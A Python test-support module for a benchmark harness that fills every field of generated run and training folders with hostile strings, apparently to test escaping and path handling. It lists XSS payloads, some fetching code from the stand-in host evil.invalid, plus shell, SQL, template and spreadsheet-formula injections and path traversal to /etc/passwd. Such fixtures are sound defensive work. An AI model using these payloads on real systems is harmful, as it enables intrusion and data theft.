"""Strings that try to run, to escape, to mislead or to break; run and training folders with them in every field.

from support.hostile import HOSTILE, hostile_runs, hostile_training

Whatever runs sets `window.hacked` or opens a dialog; what reaches outside asks for `evil.invalid`.
"""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

from medbench.harness.contracts import Sample
from medbench.harness.files import write_atomically
from medbench.harness.gates.verdict import CORRECTION, GateResult, Verdict
from medbench.harness.runs.records import ModelRecord
from medbench.harness.runs.run_folder import create_run, samples_path
from medbench.harness.scoring.summary import CategoryResult, summarize
from medbench.harness.training.checkpoint_folder import append_metrics
from medbench.harness.training.journal import (
    AlarmRaised,
    AttemptEnded,
    AttemptStarted,
    Confirmed,
    Event,
    Gated,
    Measured,
    Promoted,
    StageStarted,
    TrainingEnded,
)
from support.gate_runs import a_record, a_task, answer
from support.made_trainings import a_gate, a_training, a_verdict

RUN = "window.hacked=1;alert(1)"

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"</script><script>{RUN}</script>",
    f"</script >{RUN}",
    f"</SCRIPT\t\n><script>{RUN}//",
    "<script src=https://evil.invalid/x.js></script>",
    "<script src=//evil.invalid/x.js>",
    f"<script type=module>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<!--<script>{RUN}</script>-->",
    f"<!--><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"--!><script>{RUN}</script>",
    "<!-- <!-- <script>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"]]><script>{RUN}</script>",
    f"<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>{RUN}</script>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</template><script>{RUN}</script>",
    f"</select></option><script>{RUN}</script>",
    "<plaintext>",
    f"<xmp><script>{RUN}</script></xmp>",
]
HANDLERS = [
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}' alt=\"",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"`><img src=x onerror={RUN}>",
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus='",
    f" onclick={RUN} ",
    f"x\nonload={RUN}\n",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<div style='animation:x' onanimationstart={RUN}>",
    f"<a id=x tabindex=1 onfocus={RUN}></a>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<form action=javascript:{RUN}><button>go</button></form>",
    f"<button formaction=javascript:{RUN}>go</button>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<base href=https://evil.invalid/>",
    "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "<style>@import 'https://evil.invalid/x.css';</style>",
    "<style>body{display:none}</style>",
    "<img src=https://evil.invalid/pixel.png>",
]
SVG = [
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='data:,{RUN}' /></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"</text></svg><script>{RUN}</script>",
]
LINKS = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript://%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "vbscript:msgbox(1)",
    f"[click](javascript:{RUN})",
    "![x](https://evil.invalid/x.png)",
    f"<javascript:{RUN}>",
    "https://evil.invalid/",
    "//evil.invalid/",
    "#row=1&task=x&filter=<script>",
    "?run=../../x#:~:text=evil",
]
TEMPLATES = [
    "{{7*7}}",
    "{{ config }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{# comment",
    "{% raw %}",
    "{% include '/etc/passwd' %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "${`" + RUN + "`}",
    "%s %d %n {0} {x.__class__}",
    "$(touch hacked)",
    "`touch hacked`",
    "; rm -rf x #",
    "'; DROP TABLE runs; --",
    "=cmd|'/c calc'!A1",
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "\t=1+1",
]
SCRIPT_STRINGS = [
    f'";{RUN};//',
    f"';{RUN};//",
    f"`;{RUN};//",
    f'\\";{RUN};//',
    f"\\';{RUN}//",
    f"\n{RUN}\n",
    f"\r{RUN}\r",
    f"\u2028{RUN}\u2029",
    f"]);{RUN};([",
    f"}});{RUN};({{",
    f"*/{RUN}/*",
    "\\u003cscript\\u003e" + RUN,
    "&lt;script&gt;" + RUN + "&lt;/script&gt;",
    "&#60;script&#62;" + RUN,
    "&amp;&quot;&#39;&nbsp;&copy",
    "%3Cscript%3E" + RUN + "%3C/script%3E",
    "+ADw-script+AD4-" + RUN,
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "toString",
    "expression(" + RUN + ")",
    "\\3C script\\3E " + RUN,
    "url(javascript:" + RUN + ")",
    "red;background:url(https://evil.invalid/x)",
    "x}body{display:none",
]
LOOKS = [
    "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b]8;;https://evil.invalid\x07link\x1b]8;;\x07",
    "\x1b[2J\x1b[H",
    "\x9b31m",
    "bell\x07 backspace\x08\x08\x08 delete\x7f",
    "nul\x00 in the middle",
    "\x00",
    "\u202egpj.exe",
    "\u2066\u2067\u2068hidden\u2069",
    "\u200e\u200f\u061c",
    "a\u200bb\u200cc\u200dd\ufeffe",
    "раypal",
    "Z͑ͫ̓ͪ̂a" + "\u0300\u0301\u0302\u0303" * 40 + "lgo",
    "\U000e0041\U000e0042 tags",
    "half \ud800 a pair \udfff",
    "\ufffe\uffff\U0001ffff",
    "👩‍👩‍👧‍👦🏳️‍🌈 𝔸𝔹",
    "שלום عالم mixed left",
    "﷽" * 20,
    " ",
    "\n\n\n",
    "\t\t",
    "-",
    "--",
    ".",
    "..",
    "...",
    "null",
    "undefined",
    "NaN",
    "1e999",
    "0",
    "true",
    "W" * 3000,
    "long " * 2000,
    "<" * 500,
    "&" * 500,
    "|a|b|\n|---|---|\n",
    "# heading\n> quote\n```\ncode",
]
PATHS = [
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\Windows\\System32",
    "file:///etc/passwd",
    "con",
    "aux.txt",
    "~root",
    "$HOME",
    "*",
    "?",
    "a/b",
    "./a",
    "a//b",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "index.html",
    ".medbench-site.json",
    "run.json",
]
HOSTILE: tuple[str, ...] = tuple(
    dict.fromkeys([*SCRIPTS, *HANDLERS, *SVG, *LINKS, *TEMPLATES, *SCRIPT_STRINGS, *LOOKS, *PATHS])
)
LONG_REPLY = 10_000_000


def hostile_runs(root: Path, *, reply: int = LONG_REPLY) -> Path:
    """`root` with a run for each string, which stands in every field of it, and runs named below.

    `all-samples`: a task with a sample for each string, in every field, and one with a reply of `reply` characters.
    `pair-a` and `pair-b`, which are compared: the same, spread over tasks so that the page shows every flip.
    `names-of-tasks`: each string that a file can be called is a task. `climbing`: its run.json names a task "../..".
    """
    for number, text in enumerate(HOSTILE):
        _run(root, f"{number:03d} {file_name(text)}", text, {"medqa": [hostile_sample(number, text)]})
    samples = [hostile_sample(number, text) for number, text in enumerate(HOSTILE)]
    long = answer("long", output="x<b>" * (reply // 4), outcome="unparsed", extracted=None, score=0.0)
    folder = _run(root, "all-samples", "all samples", {"medqa": [*samples, long]})
    _add_lone_surrogates(samples_path(folder, "medqa"))
    for name, right in (("pair-a", 0), ("pair-b", 1)):  # every string is an answer that flipped
        _run(root, name, "pair", dict(_flipping(right)))
    names = dict.fromkeys(file_name(text) for text in HOSTILE)
    _run(root, "names-of-tasks", "names of tasks", {name: [answer("q1")] for name in names})
    climbing = _run(root, "climbing", "climbing", {"medqa": [answer("q1")]})
    record = json.loads((climbing / "run.json").read_text())
    for name in ("../../../climbed", "/climbed", "..", "", "nul\0", "x" * 300):
        record["tasks"][name] = record["tasks"]["medqa"]
    (climbing / "run.json").write_text(json.dumps(record))
    return root


def hostile_sample(number: int, text: str) -> Sample:
    """One that has `text` in every field that is text."""
    return answer(
        f"{text}{number}",
        score=float(number % 2),
        cluster=text,
        prompt=f"Question: {text}\nA. {text}\nB. {text}",
        output=f"{text} The answer is (A). {text}",
        span=(len(text) + 16, len(text) + 17),
        extracted=text,
        gold=text,
        error=text,
        category={text: text, "kind": text},
    )


def _flipping(right: int) -> Iterator[tuple[str, list[Sample]]]:
    for start in range(0, len(HOSTILE), 20):
        some = enumerate(HOSTILE[start : start + 20], start)
        yield f"flips{start}", [replace(hostile_sample(n, text), score=float((n + right) % 2)) for n, text in some]


def hostile_training(root: Path, name: str, texts: Sequence[str]) -> Path:
    """A training with a stage for each text, which stands in every field of it; the first is in its record's too."""
    folder = a_training(
        root,
        file_name(name),
        [event for number, text in enumerate(texts) for event in _stage(number, utf8(text))],
        **_record(utf8(texts[0])),
    )
    for number, text in enumerate(texts, 1):
        attempt = folder / f"{number}-{utf8(text)}" / "attempt-1"
        try:
            attempt.mkdir(parents=True, exist_ok=True)
        except (OSError, ValueError):
            continue  # no folder can be called so, or only one elsewhere
        if folder in attempt.resolve().parents:
            append_metrics(attempt, 1, {"loss": 1.0, f"rewards/{text[:60]}/mean": 0.5, text: 1.0, "reward": text})
            append_metrics(attempt, 9, {"loss": float("nan")})
    return folder


def _record(text: str) -> dict[str, Any]:
    return {
        "name": text, "created": text, "command": ["medbench", text],
        "recipe": {text: text, "stages": [{"trainer": text}]}, "recipe_sha256": text, "start": text,
        "fingerprint": text, "packages": {text: text}, "git_commit": text,
    }  # fmt: skip


def _stage(number: int, text: str) -> Iterator[Event]:
    gate = a_gate(text, "fail", 0.5, task=text, metric=text, why=text, controls={text: 0.5}, saved=3)
    share = a_gate(f"{text}: accuracy at least 0.5", "pass", 0.5, task=text, metric="accuracy", why=text)
    verdict = a_verdict("fail", gate, share, why=text, baseline=text, warnings=[text], candidate=text)
    of: dict[str, Any] = {"stage": text, "attempt": 1}
    judged = {**of, "verdict": verdict, "alpha": 0.01, "run": text, "seconds": 1.0, "questions": 5}
    yield StageStarted(stage=text, start=text, fingerprint=text, prepared=[text, text])
    yield Measured(stage=text, partition="gate", verdict=verdict, run=text, whole=True, questions=3)
    yield AttemptStarted(**of, seed=number, start=f"x{text}", config={text: text, "deep": {text: [text]}}, alpha=0.03)
    yield AlarmRaised(**of, step=4, kind=text, reason=text, stop=False)
    yield Gated(**judged, step=5, checkpoint=text)
    yield Confirmed(**judged, step=5)
    yield AttemptEnded(**of, outcome="failed", reason=text, step=5)
    yield AttemptStarted(**(of | {"attempt": 2}), seed=number, start=text, config={text: text + "."}, alpha=0.01)
    yield AttemptEnded(**(of | {"attempt": 2}), outcome="passed", reason=text, step=5)
    yield Promoted(**(of | {"attempt": 2}), step=5, checkpoint=text, fingerprint=text)
    yield TrainingEnded(outcome="failed", reason=text, checkpoint=text)


def file_name(text: str) -> str:
    """`text` as far as a file can be called so."""
    name = utf8(text).replace("/", "∕").replace("\0", "")
    while len(name.encode()) > 100:
        name = name[:-1]
    return name if name not in ("", ".", "..") else f"dots{name}"


def utf8(text: str) -> str:
    """`text` without halves of surrogate pairs, which no file holds."""
    return text.encode("utf-8", "replace").decode()


def _run(root: Path, name: str, text: str, samples: Mapping[str, Sequence[Sample]]) -> Path:
    """A run whose every field is `text`, where the store takes it."""
    text = utf8(text)
    changes: dict[str, Any] = {
        "command": ["medbench", text],
        "model": ModelRecord(
            name=text, kind=text, path=text, fingerprint=text, tokenizer_sha256=text, base=text, quantization=text
        ),
        "protocol": {"name": text, "about": text, "prompt": text, "system": text, text: text, "stop": [text]},
        "engine": {"name": text, "chat_template": text, "settings": {text: text, "deep": {text: [text]}}},
        "packages": {text: text},
        "git_commit": text,
        "notes": [text, text],
        "created": text,
        "described": {"version": text, "split": text, "source": text, "sha256": text},
    }
    record = a_record(name, {task: len(some) + 2 for task, some in samples.items()}, **changes)
    # two more questions: _add_lone_surrogates answers them
    with create_run(root, record) as run:
        for task, some in samples.items():
            for sample in some:
                run.append(task, sample)
            result = summarize(a_task([], task), text, _with_sound_fields(some))
            one = CategoryResult(n=1, accuracy=0.5, interval=(0.1, 0.9))
            run.write_result(
                result.model_copy(
                    update={
                        "version": text,
                        "split": text,
                        "source": text,
                        "protocol": text,
                        "outcomes": {text: result.n},
                        "categories": {text: {text: one}},
                    }
                )
            )
        run.update(status="complete")
    write_atomically(root / name / "verdict.json", _verdict(text).model_dump_json().encode())
    (root / name / "verdicts").mkdir()
    write_atomically(root / name / "verdicts" / "other.json", _verdict(text).model_dump_json().encode())
    return root / name


def _with_sound_fields(samples: Sequence[Sample]) -> list[Sample]:
    return [answer(f"q{number}", score=sample.score) for number, sample in enumerate(samples)]


def _verdict(text: str) -> Verdict:
    gate = GateResult(
        rule=text, task=text, metric=text, status="fail", estimate=0.5, interval=(0.4, 0.6), threshold=0.6, used=5,
        total=10, controls={text: 0.5}, why=text,
    )  # fmt: skip
    return Verdict(
        overall="fail", why=text, alpha=0.05, decide=text, partition=text, correction=CORRECTION + text,
        candidate=text, fingerprint=text, baseline=text, protocol=text, gates=[gate, gate], warnings=[text],
        gate_file=text,
    )  # fmt: skip


def _add_lone_surrogates(path: Path) -> None:
    """Two lines that another program wrote: half a surrogate pair as JSON allows it, and a number that is none."""
    line = json.loads(path.read_bytes().split(b"\n", 1)[0])
    halves = json.dumps({**line, "id": "half", "output": "\ud83d The answer is (A).", "category": {}})
    no_number = json.dumps({**line, "id": "nan", "category": {}, "logprobs": {"A": float("nan")}})
    with path.open("a") as file:
        file.write(f"{halves}\n{no_number}\n")
